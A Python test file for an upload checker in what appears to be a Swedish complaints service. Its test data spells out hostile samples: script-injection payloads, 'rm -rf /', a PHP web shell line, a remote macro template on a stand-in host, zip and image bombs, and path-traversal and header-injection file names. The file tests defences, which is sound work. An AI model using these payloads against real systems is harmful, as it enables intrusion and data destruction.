"""The attack set: every file is refused with a sentence, or made harmless. None goes through."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image

from synpunkter.bilagor import STORST, Avvisad, Slag, granska
from tests.synpunkter.bilagor import filer
from tests.synpunkter.bilagor.filer import arkiv, bild, odf, office, pdf, relation

pytestmark = pytest.mark.langsam

Fil = Callable[[], bytes]
SKRIPT = b"<script>alert(1)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
GIFJS = b"GIF89a/*" + bytes(200) + b"*/=1;alert(document.domain);//"


def gomd(ratt: bytes, annat: bytes) -> tuple[str, bytes]:
    """A template from elsewhere, written as XML also lets it be written."""
    namn, xml = relation("attachedTemplate", "https://ond.example/m.dotm")
    rot = b'<Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships">'
    return namn, xml.replace(b"<Relationships>", rot).replace(ratt, annat)


AVVISAS: dict[str, tuple[str, Fil, str]] = {
    # Nothing, or not a file of any kind.
    "empty": ("a.pdf", lambda: b"", "tom"),
    "null bytes": ("a.txt", lambda: bytes(500), "typ"),
    "noise": ("a.jpg", lambda: bytes(range(256)) * 8, "typ"),
    "null byte in text": ("a.txt", lambda: b"Hej\0<script>", "typ"),
    "one byte too large": ("a.txt", lambda: b"a" * (STORST + 1), "större än 10 MB"),
    # Of a kind that is not taken, whatever the name says.
    "svg with script": ("a.svg", lambda: SVG, "vektorbild"),
    "svg called jpg": ("a.jpg", lambda: SVG, "vektorbild"),
    "html": ("a.html", lambda: b"<!DOCTYPE html>" + SKRIPT, "webbsida"),
    "html called txt": ("a.txt", lambda: b"\n \n<HTML>" + SKRIPT, "webbsida"),
    "html in utf-16": ("a.txt", lambda: SKRIPT.decode().encode("utf-16"), "typ"),
    "xml with entities": ("a.txt", lambda: b'<!ENTITY a "aa">', "webbsida"),
    "windows program": ("a.jpg", lambda: b"MZ\x90\0" + bytes(200), "program"),
    "linux program": ("a.pdf", lambda: b"\x7fELF\x02" + bytes(200), "program"),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "batch file": ("a.bat", lambda: b"@echo off\r\ndel *.*\r\n", "typ"),
    "visual basic script": ("a.vbs", lambda: b'MsgBox "Hej"', "typ"),
    "table with formula": ("a.csv", lambda: b"=HYPERLINK(1)", "typ"),
    "shortcut": ("a.txt.url", lambda: b"[InternetShortcut]\nURL=file://x", "typ"),
    "zip of a harmless text": ("a.zip", lambda: arkiv(("a.txt", b"Hej")), "arkiv"),
    "zip called docx": ("a.docx", lambda: arkiv(("a.txt", b"Hej")), "arkiv"),
    "jar called docx": (
        "a.docx",
        lambda: arkiv(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"\xca\xfe\xba\xbe")),
        "arkiv",
    ),
    "rar": ("a.rar", lambda: b"Rar!\x1a\x07\0" + bytes(50), "arkiv"),
    "gzip": ("a.pdf", lambda: b"\x1f\x8b\x08" + bytes(50), "arkiv"),
    "old word with macros": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "äldre"),
    "rtf": ("a.doc", lambda: b"{\\rtf1{\\object\\objocx}}", "rtf"),
    "heic": ("a.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(50), "heic"),
    "film": ("a.jpg", lambda: b"\0\0\0\x18ftypmp42" + bytes(50), "Film"),
    "bmp": ("a.png", lambda: b"BM" + bytes(100), "Bildens format"),
    # Two kinds at once.
    "gif and script": ("a.gif", lambda: GIFJS, "går inte att läsa"),
    "pdf and web page": ("a.pdf", lambda: pdf(b"<html>" + SKRIPT + b"</html>\n"), "två sorter"),
    "web page before pdf": ("a.pdf", lambda: SKRIPT + pdf(), "webbsida"),
    "pdf and zip": ("a.pdf", lambda: pdf() + arkiv(("a.exe", b"MZ")), "skadad"),
    "zip in a pdf": (
        "a.pdf",
        lambda: pdf(arkiv(("a.js", b"alert(1)"), packa=False)),
        "två sorter",
    ),
    "program before docx": ("a.docx", lambda: b"MZ" + office(), "program"),
    "docx and script": ("a.docx", lambda: office() + SKRIPT, "skadad"),
    "docx with a zip comment": ("a.docx", lambda: _med_kommentar(office()), "skadad"),
    "docx and xlsx at once": (
        "a.docx",
        lambda: office(Slag.DOCX, ("xl/workbook.xml", b"<x/>")),
        "arkiv",
    ),
    # Broken.
    "truncated jpeg": ("a.jpg", lambda: bild(storlek=(400, 300))[:-600], "går inte att läsa"),
    "jpeg of a header alone": ("a.jpg", lambda: b"\xff\xd8\xff\xe0", "går inte att läsa"),
    "truncated png": ("a.png", lambda: bild("PNG", (400, 300))[:200], "går inte att läsa"),
    "png without pixels": ("a.png", lambda: filer.png(10, 10, b"x"), "går inte att läsa"),
    "truncated webp": ("a.webp", lambda: bild("WEBP", (90, 90))[:60], "går inte att läsa"),
    "truncated gif": ("a.gif", lambda: filer.gif(900, 900)[:40], "går inte att läsa"),
    "truncated pdf": ("a.pdf", lambda: pdf()[:-20], "skadad"),
    "pdf with its table elsewhere": (
        "a.pdf",
        lambda: re.sub(rb"startxref\n\d+", b"startxref\n3", pdf()),
        "skadad",
    ),
    "truncated docx": ("a.docx", lambda: office()[:-30], "skadad"),
    "docx with a wrong checksum": (
        "a.docx",
        lambda: arkiv(
            ("[Content_Types].xml", b"Hej!"), ("word/document.xml", b"x"), packa=False
        ).replace(b"Hej!", b"Hoj!"),
        "skadad",
    ),
    # Bombs.
    "png of 400 million pixels": ("a.png", lambda: _platt_png(20_000, 20_000), "bildpunkter"),
    "png of 30 million pixels": ("a.png", lambda: _platt_png(6_000, 5_000), "bildpunkter"),
    "png of four thousand million by one": (
        "a.png",
        lambda: filer.png(2**31 - 1, 2, b"x"),
        "bildpunkter",
    ),
    "gif of 4 thousand million pixels": (
        "a.gif",
        lambda: filer.gif(65_535, 65_535),
        "bildpunkter",
    ),
    "png with a text of 100 MB": ("a.png", filer.png_textbomb, "går inte att läsa"),
    "jpeg with 5 000 scans": ("a.jpg", lambda: filer.jpeg_med_svep(5000), "går inte att läsa"),
    "docx of 200 MB": (
        "a.docx",
        lambda: office(Slag.DOCX, ("word/a.xml", bytes(200 * 1024 * 1024))),
        "packas upp",
    ),
    "docx that lies about its size": ("a.docx", filer.ljugande_storlek, "skadad"),
    "docx with a zip bomb in a zip": (
        "a.docx",
        lambda: office(Slag.DOCX, ("word/embeddings/a.docx", _bomb())),
        "packas upp",
    ),
    "docx in docx in docx": (
        "a.docx",
        lambda: office(Slag.DOCX, ("e/a.docx", office(Slag.DOCX, ("e/b.docx", office())))),
        "arkiv",
    ),
    "docx of overlapping parts": ("a.docx", filer.overlappande, "packas upp"),
    "docx of 3 000 parts": (
        "a.docx",
        lambda: office(Slag.DOCX, *((f"word/{n}.xml", b"") for n in range(3000))),
        "packas upp",
    ),
    "docx with a thousand million laughs": (
        "a.docx",
        lambda: office(Slag.DOCX, ("word/b.xml", b'<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>')),
        "skadad",
    ),
    # What an office program would run or fetch by itself.
    "docm called docx": (
        "a.docx",
        lambda: office(Slag.DOCX, ("word/vbaProject.bin", b"x")),
        "makron",
    ),
    "macro type without its part": (
        "a.docx",
        lambda: office(
            Slag.DOCX, ("x.xml", b'<t t="application/vnd.ms-word.document.macroEnabled"/>')
        ),
        "makron",
    ),
    "xlsx with old macro sheets": (
        "a.xlsx",
        lambda: office(Slag.XLSX, ("xl/macrosheets/sheet1.xml", b"<x/>")),
        "makron",
    ),
    "pptx with activex": (
        "a.pptx",
        lambda: office(Slag.PPTX, ("ppt/activeX/activeX1.xml", b"<x/>")),
        "makron",
    ),
    "docx with a program inside": (
        "a.docx",
        lambda: office(Slag.DOCX, ("word/embeddings/a.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
        "makron",
    ),
    "docx with a template from elsewhere": (
        "a.docx",
        lambda: office(Slag.DOCX, relation("attachedTemplate", "https://ond.example/m.dotm")),
        "makron",
    ),
    "docx with a template from elsewhere behind a prefix": (
        "a.docx",
        lambda: office(Slag.DOCX, gomd(b"Relationship ", b"x:Relationship ")),
        "makron",
    ),
    "docx with a template from elsewhere in numbered letters": (
        "a.docx",
        lambda: office(Slag.DOCX, gomd(b"External", b"Extern&#97;l")),
        "makron",
    ),
    "docx with a template from elsewhere after a quoted mark": (
        "a.docx",
        lambda: office(Slag.DOCX, gomd(b'Id="r1"', b'Id="r>1"')),
        "makron",
    ),
    "docx with endless relations": (
        "a.docx",
        lambda: office(
            Slag.DOCX, ("word/_rels/a.rels", b"<R>" + b"<Relationship " * 200_000 + b"</R>")
        ),
        "stor",
    ),
    "odt with macros": (
        "a.odt",
        lambda: odf(Slag.ODT, ("Basic/Standard/Module1.xml", b"<x/>")),
        "makron",
    ),
    "docx with a way out": (
        "a.docx",
        lambda: office(Slag.DOCX, ("../../../etc/cron.d/x", b"* * * * *")),
        "skadad",
    ),
    "docx with a password": ("a.docx", filer.krypterad, "lösenord"),
}


def _platt_png(bredd: int, hojd: int) -> bytes:
    """All black: a few hundred kilobytes, whatever it says of its size."""
    packare = zlib.compressobj(9)
    rad = bytes(1 + 3 * bredd)
    packat = b"".join(packare.compress(rad) for _ in range(min(hojd, 6000)))
    return filer.png(bredd, hojd, packat + packare.flush())


def _bomb() -> bytes:
    return office(Slag.DOCX, *((f"word/{n}.xml", bytes(900_000)) for n in range(100)))


def _med_kommentar(data: bytes) -> bytes:
    ut = io.BytesIO(data)
    with zipfile.ZipFile(ut, "a") as z:
        z.comment = b"<script>alert(1)</script>"
    return ut.getvalue()


@pytest.mark.parametrize("fall", AVVISAS)
def test_it_is_refused_in_a_sentence_quickly_and_in_little_memory(fall: str) -> None:
    namn, gor, ord_ = AVVISAS[fall]
    data = gor()
    tracemalloc.start()
    borjan = time.process_time()
    try:
        with pytest.raises(Avvisad) as fel:
            granska(namn, data)
        tid = time.process_time() - borjan
        _, mest = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert ord_ in fel.value.mening
    assert fel.value.mening.endswith(".")
    assert tid < 5
    assert mest < 100 * 1024 * 1024 + 3 * len(data)


def test_there_are_more_than_forty_of_them() -> None:
    assert len(AVVISAS) > 60


@pytest.mark.parametrize(
    ("svans", "sort"),
    [
        (arkiv(("ond.exe", b"MZ")), "zip"),
        (SKRIPT, "script"),
        (b"<?php system($_GET['a']); ?>", "php"),
        (b"MZ\x90\0ond", "program"),
        (filer.EICAR, "signature"),
    ],
)
@pytest.mark.parametrize("format_", ["JPEG", "PNG", "GIF", "WEBP"])
def test_what_hangs_on_a_picture_is_gone(format_: str, svans: bytes, sort: str) -> None:
    god = granska("a.bin", bild(format_) + svans)
    assert svans not in god.data
    assert not zipfile.is_zipfile(io.BytesIO(god.data))
    with Image.open(io.BytesIO(god.data)) as kvar:
        kvar.load()
        assert kvar.size == (60, 40)


def test_where_when_and_by_whom_a_picture_was_taken_is_gone() -> None:
    ratt = filer.jpeg_med_plats()
    assert b"Telefonmakaren" in ratt
    assert b"Gunilla" in ratt
    god = granska("IMG_4411.JPG", ratt)
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert not dict(bild_.getexif())
        assert not bild_.getexif().get_ifd(0x8825)
        assert bild_.info.keys() <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    for spar in (b"Exif", b"Telefonmakaren", b"Gunilla", b"2026:10:14", b"http://ns.adobe.com"):
        assert spar not in god.data
    assert (god.namn, god.slag) == ("IMG_4411.jpg", Slag.JPEG)


def test_texts_in_a_png_are_gone() -> None:
    god = granska("a.png", filer.png_med_text())
    assert b"Gunilla" not in god.data
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert not bild_.info
        assert bild_.format == "PNG"


@pytest.mark.parametrize("riktning", [3, 6, 8])
def test_a_picture_is_turned_upright_before_its_note_of_that_is_gone(riktning: int) -> None:
    god = granska("a.jpg", filer.jpeg_med_plats(riktning, storlek=(64, 32)))
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert bild_.size == ((64, 32) if riktning == 3 else (32, 64))
        hornet = {3: (63, 31), 6: (31, 0), 8: (0, 63)}[riktning]
        rod, _, bla = bild_.convert("RGB").getpixel(hornet)  # type: ignore[misc]
        assert bla > rod - 100  # the blue corner went along


def test_a_broken_note_of_the_camera_is_no_reason_to_refuse() -> None:
    hel = filer.jpeg_med_plats()
    nr = hel.index(b"Exif\0\0") + 6
    assert granska("a.jpg", hel[:nr] + b"XXXX" + hel[nr + 4 :]).slag == Slag.JPEG


def test_a_large_photograph_is_kept_smaller() -> None:
    god = granska("a.jpg", bild("JPEG", (8000, 6000)))
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert bild_.size == (4000, 3000)


def test_a_transparent_picture_stays_transparent() -> None:
    ut = io.BytesIO()
    Image.new("RGBA", (10, 10), (255, 0, 0, 0)).save(ut, "WEBP")
    god = granska("a.webp", ut.getvalue())
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert (bild_.format, bild_.mode) == ("PNG", "RGBA")


def test_of_a_moving_picture_the_first_is_kept() -> None:
    ut = io.BytesIO()
    rutor = [Image.new("RGB", (10, 10), farg) for farg in ("red", "blue")]
    rutor[0].save(ut, "GIF", save_all=True, append_images=rutor[1:])
    god = granska("a.gif", ut.getvalue())
    with Image.open(io.BytesIO(god.data)) as bild_:
        assert bild_.format == "PNG"
        assert getattr(bild_, "n_frames", 1) == 1
        assert bild_.convert("RGB").getpixel((0, 0)) == (255, 0, 0)


TAS_EMOT: dict[str, tuple[Fil, Slag]] = {
    "pdf": (pdf, Slag.PDF),
    "pdf, version 2": (lambda: pdf(huvud=b"%PDF-2.0\n%\xe2\xe3\xcf\xd3\n"), Slag.PDF),
    "docx": (lambda: office(Slag.DOCX), Slag.DOCX),
    "docx with a link and a chart": (
        lambda: office(
            Slag.DOCX,
            relation("hyperlink", "https://norrkoping.se/"),
            ("word/embeddings/tabell.xlsx", office(Slag.XLSX)),
        ),
        Slag.DOCX,
    ),
    "xlsx": (lambda: office(Slag.XLSX), Slag.XLSX),
    "pptx": (lambda: office(Slag.PPTX), Slag.PPTX),
    "odt": (lambda: odf(Slag.ODT), Slag.ODT),
    "ods": (lambda: odf(Slag.ODS), Slag.ODS),
    "text": (lambda: "Hej åäö.\r\n".encode(), Slag.TEXT),
    "text of an old program": (lambda: "Hej åäö.\r\n".encode("cp1252"), Slag.TEXT),
    "text with a less-than sign": (lambda: b"Om 3 < 4 <3 och <mamma>.", Slag.TEXT),
}


@pytest.mark.parametrize("fall", TAS_EMOT)
def test_an_honest_document_is_kept_byte_for_byte(fall: str) -> None:
    gor, slag = TAS_EMOT[fall]
    god = granska("Mitt klagomål.txt", gor())
    assert (god.slag, god.data) == (slag, gor())


def test_a_workbook_from_excels_own_library_is_kept() -> None:
    from openpyxl import Workbook

    ut = io.BytesIO()
    bok = Workbook()
    bok.active.append(["Tid", 1, 2.5])  # type: ignore[union-attr]
    bok.save(ut)
    assert granska("a.xlsx", ut.getvalue()).slag == Slag.XLSX


def test_a_pdf_from_our_own_printer_is_kept() -> None:
    from weasyprint import HTML

    assert granska("a.pdf", HTML(string="<p>Hej</p>").write_pdf()).slag == Slag.PDF


@pytest.mark.parametrize(
    ("namn", "blir"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
        ("C:\\Users\\Gunilla\\brev.txt", "brev.txt"),
        ("/etc/shadow", "shadow.txt"),
        ("..", "fil.txt"),
        ("", "fil.txt"),
        ("....", "fil.txt"),
        ("   .txt", "fil.txt"),
        ("CON", "fil.txt"),
        ("lpt1.txt", "fil.txt"),
        ("brev\0.txt", "brev.txt"),
        ("brev\r\nSet-Cookie: a=b.txt", "brevSet-Cookie a=b.txt"),
        ("\N{RIGHT-TO-LEFT OVERRIDE}txt.brev", "txt.txt"),
        ("brev\N{RIGHT-TO-LEFT OVERRIDE}gpj.txt", "brevgpj.txt"),
        ("br\N{ZERO WIDTH SPACE}ev.txt", "brev.txt"),
        ('<img src=x onerror="alert(1)">.txt', "img src=x onerror=alert(1).txt"),
        ("a;b&c|d`e.txt", "a;b&cd`e.txt"),
        (".htaccess", "htaccess.txt"),
        ("brev.txt.", "brev.txt.txt"),
        ("Klagomål på hemtjänsten.TXT", "Klagomål på hemtjänsten.txt"),
        ("a" * 500 + ".txt", "a" * 100 + ".txt"),
    ],
)
def test_a_name_is_shown_without_what_no_name_holds(namn: str, blir: str) -> None:
    from synpunkter.bilagor.namn import rensat

    assert rensat(namn, "txt") == blir


def test_the_name_ends_as_the_content_is() -> None:
    assert granska("semester.exe", bild()).namn == "semester.jpg"
    assert granska("faktura.html", pdf()).namn == "faktura.pdf"
